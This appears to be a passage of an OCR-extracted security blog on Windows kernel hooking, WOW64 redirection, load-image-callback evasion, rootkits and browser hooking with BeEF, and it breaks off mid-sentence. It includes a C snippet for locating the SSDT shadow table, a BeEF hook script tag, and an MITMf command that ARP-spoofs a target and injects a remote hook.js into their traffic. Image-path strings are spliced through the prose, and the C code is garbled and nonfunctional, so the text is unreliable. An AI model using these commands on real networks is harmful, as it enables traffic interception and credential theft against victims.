An important step lets the hacker do the hook or infiltrate job is to identify the usable memory space.  A parameter so called KeServiceDescriptorTableShadow. Using KeServiceDescriptorTable variable exported by ntoskrnl.exe, we can get theaddress of KeServiceDescriptorTableShadow variable. KeServiceDescriptorTableShadow is an extension of
KeServiceDescriptorTable variable.

Below syntax get the address of KeServiceDescriptorTableShadow by comparing memories around KeServiceDescriptorTable.

typedef struct _SERVICE_DESCRIPTOR_TABLE { PULONG ServiceTable; // array of entry-points PULONG puCounterTable; // array of counters ULONG uTableSize; // number of table entries PUCHAR pbArgumentTable; // array of byte counts } SERVICE_DESCRIPTOR_TABLE, *PSERVICE_DESCRIPTOR_TABLE;

Below syntax is retrieves its address in different version of Windows.

 ULONG Index;
 UONG MajorVersion, MinorVersion, BuildNumber;
 PsGetVersion(&MajorVersion,&MinorVersion, &BuildNumber, &CSDVersion);
 if(MajorVersion == 5 && MinorVersion == 1) // Windows XP
 SDTShadow = (PUCHAR)((ULONG)&KeServiceDescriptorTable - 0x40);
 else // Windows 2000, or Windows Vista
 SDTShadow = (PUCHAR)((ULONG)&KeServiceDescriptorTable + 0x40);
 for(Index = 0; Index < 0x1000; Index ++, SDTShadow ++)
 KeServiceDescriptorTableShadow = (PSERVICE_DESCRIPTOR_TABLE)SDTShadow;
 if(KeServiceDescriptorTableShadow == &KeServiceDescriptorTable)
 if(memcmp(KeServiceDescriptorTableShadow, &KeServiceDescriptorTable, 0x10) == 0
 && ((UCHAR)KeServiceDescriptorTableShadow->ServiceTable & 3) == 0)
 return NULL;
 return NULL;

Below details on the picture left hand side show you the step how to relies on driver hook into the kernel process. In end-user point of view, there is a simple way to identify the current driver load into your PC or server. You just execute a command fltmc in your MS-DOS prompt. There is not require any assembly language knowledge. It is a simple and direct path to let you know how many 3rd party driver load into the windows kernel. For more details, please refer to right hand side in below picture.


Hacker is difficult to find available address space due to ASLR technique. (see below URL for reference)

The enemy of ASLR (Address space layout randomization) – memory leak

Even though ASLR has design limitation might have possibility let hacker implant malware. However a better idea is that take easy wayinstead of difficult way. A way confirm that it is possible. From technical point of view, ASLR avoid hacker know the actual memory address.  How about run the malicious code driver and ASLR mechanism at the same time (simultaneously).That is pre-install a 3rd party driver with malicious code embedded then load the software driver during operating system startup. The way similar antivirus product using API hooking allows the antivirus to see exactly what function is called.

- Loading drivers
- Starting new processes
- Process executable image
System DLL: ntdll.dll (2 different binaries for WoW64 processes)
- Runtime loaded PE images – import table, LoadLibrary, LoadLibraryEx[1], NtMapViewOfSection

Antivirus software may use SSDT hooking (System Service Dispatch Table hooking) on 32-bit operation.  On a 64-bit system, a KM (kernel module) driver can only be loaded if it has a digital signature. And therefore hacker could be focus on 32 bit OS instead of 64 bit.

How to run 32-bit applications on x64?

In order to maintain complete code separation, running 32-bit code on a 64-bit operating system design with a destinate folder named \Windows\SysWOW64that is used to store the 32-bit DLLs to meet the design objective. Meanwhile the x64 version of Windows uses the \windows\system32 folder for 64-bit DLLs. Below diagram shown that the WOW64 emulator responsible for file system redirection for several key components of theWindows operating system.

To identify 32 bit and 64 bit environment changes depending on the registry key. For instance, the ‘rundll32’ is point to the specify registry (HKEY_LOCAL_MACHINE\Software\Wow6432Node\Microsoft\CurrentVersion\Run).

Therefore it will execute the following command.


This is the 32-bit version program thus everything will be remapped accordingly (see belowdiagram for reference)

Above details shown the registry and file redirection mechanism to execute 32 bit application on 64 bit of operating system. It looks fine that application not possible to work with incorrect bits environment since it governance by registry. However a fundamental design architecture looks provide benefits to the hacker (see below diagram for reference):

Above diagram indicated that software device driver module allow 32-bit software driver go thought module (WOW64) communicate with 64-bit Kernelfunction. So it has possibility go through the software driver then compromise the system. From security point of view, the server or workstation Antivirus processes will keep track all DLL activities on directory (c:\windows\SysWoW64). So what is the malware next action?

Malware next action

A lot of security experts feedback comments on Microsoft OSproducts. They highlight that a flaw appears on kernel side. Microsoft official announcement was told that it is not a security issue.  The fact is that  malware can use API system call (PsSetLoadImageNotifyRoutine) to trick the OS into giving malware scanners other files. This would allow malicious software smuggling then by evade antivirus monitoring. A hacking technique so called Register load image callback (see below)


How to prevent PsSetLoadImageNotifyRoutine

Microsoft have solution available against register load image callback flaw. Developer can define a minifilter (FltGetFileNameInformationUnsafe) to confirm the routine returns name information for an open file or directory. And therefore it is the way to avoid the fundamental design limitation of API system Call mechanism (PsSetLoadImageNotifyRoutine).

But what is thecauses for system developers not intend to use this preventive mechanism.

FltGetFileNameInformationUnsafe allocates it’s own memory for the structure. As a result it will encountered blue screen and system crash once 3rd party software driver not follow the SDLC (software development life cycle).

Alternative type of attack  (This time does not intend to discuss in detail)

A rootkit will create a hidden partition, at the end of the drive, 1 – 10 MB in size and set itself as the boot partition. Hence, the rootkit is already running before Windows loads. This hidden partition will not show up on Windows Disk Management in mostcases.

Rootkit categories:

Operation feature

Persistent rootkit is one that is activated every time the system starts up.

Non-persistent rootkit is not capable of automatically running again after the system has been restarted.

Operation mode

User mode: this kind of rootkit hooks system calls and filters the information returned by the APIs (Application Programming Interface)

Kernel mode : these rootkits modify the kernel data structures, as well as they hook the kernel’s own APIs. It compromise the antivirus program at the same time. This is the most reliable and robust way of intercepting the system.


Even though your IT infrastructure install full scope of detective and preventive control facilities. The 3rd software driver will broken your security facilities. Perhaps you have SIEM and central log event management product however such malicious activities is hard to detect since it is running in Kernel (Ring 0).  So a standard policy on software usage is critical goal on today cyber technology world. Believe it or not, a 3rd party software driver embeddedmalicious code can break your great wall.








The incentive of caching & Web browser exploitation – Hacker benefit



Bring up hypothesis boldly while prove it conscientiously and carefully.  We hypothesis cyber criminal case objective to steal the data. The gatekeeper is the credential. Forinstance user password. We known that the enhancement of authentication was added to specifics technology. Yes, it is a personal electronic certificate. Do you think whether the criminal will be focused on client side since it will be more easy to collect the information?

Concept of theory – according to BeEF (The Browser Exploitation Framework Project)

Hook the web browser are operating in two different technique. They are ….. (see below):


BeEF ( Browser Exploitation Framework)

The BeEF hook is a JavaScript file hosted on the BeEF server  that needs to run on client browsers. The hook mechanics looks straight forward that it embedded parameters (see below) on a web page lure victim execute (click).It re-direct the victim connection to BeEF server afterwards. As a result it can collect the information on browser includes the credential.

<script src=”” type=”text/javascript”></script>

Reminder: BeEF is a platform which you can use to generate and deliver payloads directly to the target web browser. The BeEF attack tool is written in the Ruby programming language.


MITMf (man in the middle attack framwork)

Hacker can make use of different tool to do the MITM. BeEF server contained the specific feature. Below simple idea of script objective injected the hook.js script into the websites that the target visited.

mitmf --spoof --arp -i <interface> --gateway <router IP> --target<target IP> --inject --js-url <hook.js URL>

Reminder: An MITM attack is only possible if you have control over the network between the victim and server.

What  is the incentive in between hook and cache?

We known that our web browser contained many information. Even though you do not save the password and user ID. However web surfing history will be recorded until you clear manually or purge the data by configuration setting. Human will be step down their alert until incident happen. So sometimes it provides a way to bad guy doing some jobs silently. Let’s take a closer looks of our assumption.

Our virtual reality assumption
  1. See below diagram (wan accelerator architecture and handshake diagram), hook the browser can investigate the traffics and do a passive information gather to receive the understand of the operation peers.

WAN accelerator architecture and handshake diagram

Network caching technology conceptual diagram2. Network caching technology is hard to avoid vulnerability occurs. For instance CVE-2017-7307 proof that Riverbed RiOS before 9.0.1 does not properly restrict shell access in single-user mode, which makes it easier for physically proximate attackers to obtain root privileges and access decrypted data by replacing the /opt/tms/bin/cli file.

3. We understand that this is an vendor appliance design OS design limitation. However hacker can relies on hook to the browser advantage learn the details and find their target. They can relies on  this vulnerability do more works to steal the information.  A malware out break to more client machine might happen in such circumstances (see below picture – Cache system has been compromised) since the data contained in cache has been compromised.

Cache system has been compromised


To setup a comphensive prevention detection system, priority to do is know how to hack. Since hacker might know what is the benefits on their side. As a matter of fact a enterprise stated that they employ hacker to become thier cyber security team member. My observation is that IT security industry looks changing the shape. The security team key responsibility is doing report creation works, project and vendor management on projects. But this is not the way!






About apple Mac security topic – Does it a Trojan horse or administrator negligence?In regards to the subject matter, below details is a short discussion and therefore not require to written in details long form. Enjoy!


Once upon a time. The Greek army going to breakthrough the Troy city defense mechanism. A group of army  hide themselves inside a horse…….

Discussion topic – malware bypasses gatekeeper

Sound strange! Heard that the malware can bypass apple computer detection mechanism, said macdailynews. It is hard to imagine that how’s the hacker can do this magic?

As far as I know, similar scenario type of cyber attack aim to bypass defense mechanism was happened in past. But it is a non apple OS platform. Hacker relies of iframe programming technique (see below program syntax). The method is that hacker is going to find a vulnerable web site which did not have implement content security control. They will embeds a malicious iframe code snippet in this website page. When anyone visits that page, the hidden iframe code secretly downloads and installs a Trojan or a malware such as key-logger on the unsuspecting user’s computer, if his computer is not adequately protected. The web site will unintended become a malicious host in the long run if the web admin not aware. As a result the host will be include in the abuse by internet community and put his domain record 